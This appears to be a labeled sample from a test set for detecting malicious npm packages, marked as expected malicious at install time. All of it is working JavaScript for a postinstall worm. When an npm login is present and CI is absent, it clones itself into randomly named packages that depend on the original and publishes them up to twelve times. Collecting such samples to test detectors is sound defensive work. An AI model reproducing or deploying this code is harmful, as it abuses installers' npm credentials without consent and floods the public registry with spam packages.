// when: install
// expect: malicious
// source: blind set 55 (the tea.xyz reward farms, IndonesianFoods 2025): once `npm whoami` answers, the postinstall
// copies itself into a new package named from a word list, depending on the original, and publishes it, a dozen times
const fs = require('fs'), os = require('os'), path = require('path');
const { execSync } = require('child_process');
const FOODS = ['nasi-goreng', 'rendang', 'soto-ayam', 'gado-gado'];
const pick = (a) => a[Math.floor(Math.random() * a.length)];
function whoami() { try { return execSync('npm whoami').toString().trim(); } catch { return null; } }
if (process.env.CI || !whoami()) process.exit(0);
const self = path.join(__dirname);
const pkg = JSON.parse(fs.readFileSync(path.join(self, 'package.json'), 'utf8'));
let n = 0;
function once() {
  const tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'pkg-'));
  fs.copyFileSync(__filename, path.join(tmp, 'index.js'));
  const name = `${pick(FOODS)}-${pick(FOODS)}-${Math.floor(Math.random() * 9000 + 1000)}`;
  const next = Object.assign({}, pkg, { name, version: '1.0.0', dependencies: { [pkg.name]: '^' + pkg.version } });
  fs.writeFileSync(path.join(tmp, 'package.json'), JSON.stringify(next, null, 2));
  try { execSync('npm publish --access public', { cwd: tmp, stdio: 'ignore' }); } catch {}
  if (++n < 12) setTimeout(once, 7000);
}
once();
